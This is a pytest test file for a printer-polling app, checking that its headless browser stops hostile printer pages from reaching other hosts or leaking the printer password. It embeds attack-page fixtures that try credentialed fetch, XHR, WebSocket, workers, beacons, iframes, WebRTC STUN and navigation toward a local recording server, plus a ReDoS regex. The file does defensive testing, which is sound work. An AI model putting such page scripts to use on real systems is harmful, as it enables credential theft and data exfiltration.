"""Hostile printer pages (issue #11 B): in the headless browser a page's scripts reach no other host and hand out
no password, open no WebSocket and send no WebRTC traffic, in the rule builder's preview and in a stored poll
alike; a never-answering printer does not hold up other fetches; a runaway regex is a stored rule error.

"Another host" is a recording web server on 127.0.0.2 (the printer is on 127.0.0.1): loopback is allowed for these
tests, so only the browser guard stands between the page and it.
"""

from __future__ import annotations

import os
import select
import socket
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from pathlib import Path

import pytest
from lxml import html as lxml_html
from sqlalchemy.engine import Engine
from sqlmodel import Session

from printer_app.config import get_settings
from printer_app.models import Printer, WebParsingRule
from printer_app.models.choices import PollingMethod, TaskStatus
from printer_app.services.polling.pipeline import poll_and_store
from printer_app.services.web import parser as web_parser
from printer_app.services.web.browser import CHROMIUM, close_browser
from tests.conftest import unavailable
from tests.factories import make_printer
from tests.web_server import AUTH_PASSWORD, AUTH_USER, FOREIGN_CONTENT, PrinterWebServer, RecordingServer, SilentServer

pytestmark = pytest.mark.timeout(180)

OTHER_HOST = "127.0.0.2"
OTHER_PORT_CONTENT = "PRINTER-OTHER-PORT-0815"
WAIT_FOR_NOTHING = [{"type": "wait", "wait": 0}]  # "render it in the browser"
WAIT_FOR_DONE = [{"type": "click", "selector": "#done", "wait": 0}]  # the page marks the end of its attempts

ATTACK = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Status</title></head>
<body>
<p id="total">1,234</p>
<p id="serial">ATTACK-SN-1</p>
<div id="loot"></div>
<script>
var OTHER = "@OTHER@", SAME_HOST = "@SAME_HOST@";
function show(text) {
  var span = document.createElement("span");
  span.textContent = text;
  document.getElementById("loot").appendChild(span);
}
function attempt(name, promise) { return promise.then(show, function () { show(name + " refused"); }); }
var tries = [
  attempt("fetch", fetch(OTHER + "/fetch", {credentials: "include"}).then(function (r) { return r.text(); })),
  attempt("same host", fetch(SAME_HOST + "/same-host-other-port").then(function (r) { return r.text(); })),
  attempt("xhr", new Promise(function (ok, fail) {
    var x = new XMLHttpRequest();
    x.open("GET", OTHER + "/xhr");
    x.withCredentials = true;
    x.onload = function () { ok(x.responseText); };
    x.onerror = fail;
    x.send();
  })),
  attempt("websocket", new Promise(function (ok, fail) {
    var ws = new WebSocket(OTHER.replace("http", "ws") + "/ws");
    ws.onopen = function () { ok("websocket open"); };
    ws.onerror = ws.onclose = fail;
  })),
  attempt("image", new Promise(function (ok, fail) {
    var img = new Image();
    img.onload = function () { ok("image loaded"); };
    img.onerror = fail;
    img.src = OTHER + "/img.png";
  })),
  attempt("worker", new Promise(function (ok, fail) {  // a worker keeps WebSocket: only the network stops it
    var code = "var ws = new WebSocket('" + OTHER.replace("http", "ws") + "/worker-ws');" +
      "ws.onopen = function () { postMessage('worker websocket open'); };" +
      "ws.onerror = function () { fetch('" + OTHER + "/worker-fetch').then(function (r) { return r.text(); })" +
      ".then(postMessage, function () { postMessage('worker refused'); }); };";
    var worker = new Worker(URL.createObjectURL(new Blob([code], {type: "text/javascript"})));
    worker.onmessage = function (e) { ok(e.data); };
    worker.onerror = fail;
  })),
];
navigator.sendBeacon(OTHER + "/beacon", "x");
var frame = document.createElement("iframe");
frame.src = OTHER + "/frame";
document.body.appendChild(frame);
var link = document.createElement("link");
link.rel = "prefetch";
link.href = OTHER + "/prefetch";
document.head.appendChild(link);
try { new EventSource(OTHER + "/events"); } catch (e) {}
window.open(OTHER + "/popup");
Promise.allSettled(tries).then(function () {
  var done = document.createElement("p");
  done.id = "done";
  done.textContent = "done";  // visible: a click waits for it
  document.body.appendChild(done);
});
</script>
</body></html>
"""

NAVIGATE = """<!DOCTYPE html>
<html><body><p id="total">1,234</p>
<button id="done" type="button" onclick="location.href = '@OTHER@/navigated'">Go</button>
</body></html>
"""

WEBRTC = """<!DOCTYPE html>
<html><body><p id="total">1,234</p>
<script>
function finish(text) {
  if (document.getElementById("done")) return;
  var done = document.createElement("p");
  done.id = "done";
  done.textContent = text;
  document.body.appendChild(done);
}
try {
  var pc = new RTCPeerConnection({iceServers: [{urls: "stun:@STUN@"}]});
  pc.createDataChannel("x");
  pc.onicecandidate = function (e) { if (e.candidate) finish("candidate"); };
  pc.onicegatheringstatechange = function () { if (pc.iceGatheringState === "complete") finish("complete"); };
  pc.createOffer().then(function (offer) { return pc.setLocalDescription(offer); }).catch(function () {
    finish("error");
  });
} catch (e) {
  finish("no webrtc");
}
</script>
</body></html>
"""


@pytest.fixture(scope="module", autouse=True)
def loopback_allowed() -> Iterator[None]:
    """The test printer lives on 127.0.0.1, which the SSRF guard refuses unless ALLOW_LOOPBACK_TARGETS is set."""
    previous = os.environ.get("ALLOW_LOOPBACK_TARGETS")
    os.environ["ALLOW_LOOPBACK_TARGETS"] = "true"
    get_settings.cache_clear()
    yield
    if previous is None:
        os.environ.pop("ALLOW_LOOPBACK_TARGETS", None)
    else:
        os.environ["ALLOW_LOOPBACK_TARGETS"] = previous
    get_settings.cache_clear()


@pytest.fixture(scope="module", autouse=True)
def chromium() -> Iterator[None]:
    if not Path(CHROMIUM).exists():
        unavailable(f"{CHROMIUM} is missing (apt-get install chromium)")
    yield
    close_browser()


@pytest.fixture(scope="module")
def server() -> Iterator[PrinterWebServer]:
    with PrinterWebServer() as web:
        yield web


@pytest.fixture
def other() -> Iterator[RecordingServer]:
    with RecordingServer(OTHER_HOST) as recording:
        yield recording


@pytest.fixture
def same_host() -> Iterator[RecordingServer]:
    """Another port of the printer itself: reachable, but it gets no password."""
    with RecordingServer("127.0.0.1", content=OTHER_PORT_CONTENT) as recording:
        yield recording


def _serve(server: PrinterWebServer, path: str, page: str, **values: str) -> str:
    for key, value in values.items():
        page = page.replace(f"@{key}@", value)
    server.pages[path] = (page.encode(), "text/html; charset=utf-8")
    return server.path(path)


def _authed_printer() -> Printer:
    return Printer(ip_address="127.0.0.1", web_username=AUTH_USER, web_password=AUTH_PASSWORD)


def _rule(url_path: str, field: str, xpath: str, actions: list[dict]) -> dict:
    return {"field_name": field, "url_path": url_path, "xpath": xpath, "actions_chain": actions}


def test_page_scripts_reach_no_other_host_and_hand_out_no_password(
    server: PrinterWebServer, other: RecordingServer, same_host: RecordingServer
) -> None:
    path = _serve(server, "/attack.html", ATTACK, OTHER=other.origin, SAME_HOST=same_host.origin)

    result = web_parser.test_rules(
        _authed_printer(),
        [_rule(path, "counter", "//p[@id='total']", WAIT_FOR_DONE), _rule(path, "serial_number", "//div", [])],
    )
    preview = web_parser.preview_page(_authed_printer(), path, render=True)

    assert other.seen == []
    assert result.fields["counter"] == 1234
    assert FOREIGN_CONTENT not in str(result.results)
    assert preview.error == "" and "1,234" in preview.source
    assert FOREIGN_CONTENT not in preview.source and FOREIGN_CONTENT not in preview.html
    loot = sorted(span.text_content() for span in lxml_html.fromstring(preview.source).get_element_by_id("loot"))
    assert OTHER_PORT_CONTENT in loot[0]  # the printer's own address, another port: reachable
    assert loot[1:] == [f"{name} refused" for name in ("fetch", "image", "websocket", "worker", "xhr")]
    assert [(method, p) for method, p, _ in same_host.seen] == [("GET", "/same-host-other-port")] * 2
    assert not any("authorization" in {h.lower() for h in headers} for _, _, headers in same_host.seen)


def test_navigating_away_from_the_printer_yields_nothing_of_the_other_host(
    server: PrinterWebServer, other: RecordingServer
) -> None:
    path = _serve(server, "/navigate.html", NAVIGATE, OTHER=other.origin)
    result = web_parser.test_rules(_authed_printer(), [_rule(path, "serial_number", "//p", WAIT_FOR_DONE)])
    assert other.seen == []
    assert FOREIGN_CONTENT not in str(result.results)


def test_a_redirect_to_another_port_is_followed_without_the_password(
    server: PrinterWebServer, same_host: RecordingServer
) -> None:
    server.redirects["/to-other-port"] = f"{same_host.origin}/landing"
    rule = {"field_name": "serial_number", "url_path": server.path("/to-other-port"), "xpath": "//p"}
    for actions in ([], WAIT_FOR_NOTHING):  # a static fetch, then the browser
        assert web_parser.test_rules(_authed_printer(), [rule | {"actions_chain": actions}]).fields == {
            "serial_number": OTHER_PORT_CONTENT
        }
    assert [(method, p) for method, p, _ in same_host.seen] == [("GET", "/landing")] * 2
    assert not any("authorization" in {h.lower() for h in headers} for _, _, headers in same_host.seen)


def test_webrtc_sends_no_udp(server: PrinterWebServer) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stun:
        stun.bind((OTHER_HOST, 0))
        path = _serve(server, "/webrtc.html", WEBRTC, STUN=f"{OTHER_HOST}:{stun.getsockname()[1]}")
        result = web_parser.test_rules(
            _authed_printer(), [_rule(path, "serial_number", "//p[@id='done']", WAIT_FOR_DONE)]
        )
        assert "serial_number" in result.fields, result.errors
        readable, _, _ = select.select([stun], [], [], 3.0)  # a STUN request leaves as soon as gathering starts
        assert readable == [], f"WebRTC sent UDP: {stun.recv(2048)!r}"


def test_a_never_answering_printer_does_not_hold_up_another_fetch(server: PrinterWebServer) -> None:
    with SilentServer("127.0.0.3") as silent, ThreadPoolExecutor(1) as pool:
        slow = pool.submit(web_parser.preview_page, Printer(ip_address="127.0.0.3"), f":{silent.port}/", render=True)
        assert silent.accepted.wait(60), "the slow page was never requested"

        normal = web_parser.preview_page(Printer(ip_address="127.0.0.1"), server.path("/js/status.html"), render=True)

        assert normal.error == "" and "JS-SN-0042" in normal.source
        assert not slow.done(), "the slow page finished first: the normal one waited for it"
        silent.release()
        assert slow.result(timeout=60).error


# ---- stored polls ---------------------------------------------------------------------------------------------


@contextmanager
def _scope(engine: Engine) -> Iterator[Session]:
    with Session(engine, expire_on_commit=False) as s:
        yield s
        s.commit()


def test_action_chains_of_a_stored_poll_reach_no_other_host(
    session: Session, engine: Engine, server: PrinterWebServer, other: RecordingServer, same_host: RecordingServer
) -> None:
    path = _serve(server, "/attack.html", ATTACK, OTHER=other.origin, SAME_HOST=same_host.origin)
    printer = make_printer(
        session, ip_address="127.0.0.1", serial_number="ATTACK-SN-1", polling_method=PollingMethod.WEB
    )
    printer.web_username, printer.web_password = AUTH_USER, AUTH_PASSWORD
    session.add(WebParsingRule(printer_id=printer.id, **_rule(path, "counter", "//p[@id='total']", WAIT_FOR_DONE)))
    session.add(WebParsingRule(printer_id=printer.id, **_rule(path, "serial_number", "//p[@id='serial']", [])))
    session.commit()

    task = poll_and_store(printer.id, sessions=lambda: _scope(engine))

    assert (task.status, task.error_message) == (TaskStatus.SUCCESS, "")
    assert other.seen == []
    assert not any("authorization" in {h.lower() for h in headers} for _, _, headers in same_host.seen)


def test_a_runaway_regex_is_stored_as_the_poll_error(
    session: Session, engine: Engine, server: PrinterWebServer
) -> None:
    path = _serve(server, "/runaway.html", f"<html><body><p id='v'>{'a' * 40}b</p></body></html>")
    printer = make_printer(session, ip_address="127.0.0.1", polling_method=PollingMethod.WEB)
    session.add(
        WebParsingRule(printer_id=printer.id, field_name="counter", url_path=path, xpath="//p", regex_pattern="(a|a)+$")
    )
    session.commit()

    task = poll_and_store(printer.id, sessions=lambda: _scope(engine))

    assert task.status == TaskStatus.FAILED
    assert task.error_message == (
        "Web parsing produced no data: counter: the regex took longer than 1 s on this text: simplify the pattern"
    )
